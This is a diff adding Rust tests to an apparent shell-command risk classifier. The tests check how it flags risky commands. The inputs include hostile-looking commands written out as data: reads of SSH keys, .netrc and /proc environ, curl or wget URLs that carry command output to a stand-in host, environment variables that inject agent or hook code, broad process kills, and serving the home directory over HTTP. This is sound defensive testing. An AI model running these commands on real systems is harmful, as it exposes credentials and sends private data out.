@@ -3313,3 +3313,123 @@ fn an_unclosed_parameter_brace_before_a_wide_character_is_not_cut() {
         assert_ne!(short(&judged(&f, cmd, &clean).verdict), "routine", "{cmd}");
     }
 }
+
+/// The category of the command's verdict (soft and hard only).
+fn category(f: &Fx, cmd: &str) -> Option<&'static str> {
+    let a = analyze(cmd, &ShellEnv::new(f.home.clone(), f.ws.clone()));
+    let ctx = JudgeCtx {
+        home: &f.home,
+        cwd: &f.ws,
+        workspace: &f.workspace,
+        floor: &f.floor,
+        baseline: &NoBaseline,
+    };
+    match judge(&a, &ctx).verdict {
+        Verdict::Soft { category, .. } | Verdict::Hard { category, .. } => Some(category),
+        _ => None,
+    }
+}
+
+#[test]
+fn commits_from_outside_the_remotes_and_plumbing_that_rewrites_are_asked_about() {
+    table(&[
+        ("git pull https://x.example/r.git", "soft"),
+        ("git pull --rebase git@x.example:r.git main", "soft"),
+        ("git fetch https://x.example/r.git main && git merge FETCH_HEAD", "soft"),
+        ("git fetch ../other", "soft"),
+        ("git fetch origin && git merge FETCH_HEAD", "routine"),
+        ("git pull origin main", "routine"),
+        ("git fetch --all", "routine"),
+        ("git read-tree -u --reset HEAD", "soft"),
+        ("git read-tree HEAD", "soft"),
+        ("git update-ref refs/heads/main HEAD~3", "soft"),
+        ("git symbolic-ref HEAD refs/heads/x", "soft"),
+        ("git symbolic-ref HEAD", "routine"),
+    ]);
+}
+
+#[test]
+fn killing_every_process_of_a_runtime_is_its_own_need() {
+    let f = fx();
+    for cmd in [
+        "pkill -f node",
+        "killall -9 python3",
+        "pkill -9 '^python3?$'",
+        "pkill -f ja",
+        "pkill -s KILL bash",
+    ] {
+        assert_eq!(category(&f, cmd), Some("broad-kill"), "{cmd}");
+    }
+    for cmd in [
+        "pkill -f 'uvicorn app.main'",
+        "pkill -f vite",
+        "killall qemu-system-x86_64",
+        "pkill -s KILL myserver",
+    ] {
+        assert_eq!(category(&f, cmd), Some("process"), "{cmd}");
+    }
+}
+
+#[test]
+fn programs_steered_to_other_code_by_their_environment() {
+    table(&[
+        ("JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar mvn test", "soft"),
+        ("GOFLAGS=-toolexec=/tmp/x go test ./...", "soft"),
+        ("BUNDLE_GEMFILE=/tmp/G bundle exec rspec", "soft"),
+        ("export PHPRC=/tmp; php x.php", "soft"),
+        ("VIMINIT='!id' vim x", "soft"),
+        ("DOTNET_STARTUP_HOOKS=/tmp/h.dll dotnet test", "soft"),
+        ("RUST_BACKTRACE=1 cargo test", "routine"),
+    ]);
+}
+
+#[test]
+fn a_computed_path_in_a_redirection_that_names_a_store() {
+    table(&[
+        ("tr '\\0' '\\n' < /proc/$$/environ", "soft"),
+        ("cat < /proc/$PPID/environ", "soft"),
+        ("sort < $HOME/.ssh/$KEY", "soft"),
+    ]);
+}
+
+#[test]
+fn inline_code_that_names_a_credential_store_through_the_home() {
+    table(&[
+        (
+            "python3 -c \"import pathlib;print(pathlib.Path.home().joinpath('.netrc').read_text())\"",
+            "soft",
+        ),
+        (
+            "python3 -c \"import os;print(open(os.path.join(os.environ['HOME'],'.ssh','id_rsa')).read())\"",
+            "soft",
+        ),
+        ("ruby -e 'puts File.read(File.join(Dir.home, \".ssh/id_rsa\"))'", "soft"),
+        // Code that does not find the home: `~` is not expanded by open().
+        ("python3 -c 'print(open(\"~/.ssh/id_rsa\").read())'", "routine"),
+    ]);
+    let f = fx();
+    // A home API and an ordinary name: nothing is named.
+    assert_ne!(
+        category(&f, "ruby -e 'puts File.read(File.join(Dir.home, \"notes.txt\"))'"),
+        Some("credentials")
+    );
+}
+
+#[test]
+fn a_url_that_carries_a_commands_output_to_another_host() {
+    table(&[
+        ("curl -s \"https://x.example/?q=$(git config user.email)\"", "soft"),
+        ("wget -q -O- \"https://x.example/h/$(hostname)\"", "soft"),
+        ("curl -s \"http://localhost:8000/items/$(cat id.txt)\"", "unknown"),
+    ]);
+}
+
+#[test]
+fn file_servers_and_ps_environment() {
+    table(&[
+        ("busybox httpd -f -h ~", "soft"),
+        ("darkhttpd .", "soft"),
+        ("ps -E", "hard"),
+        ("ps aux", "routine"),
+    ]);
+}
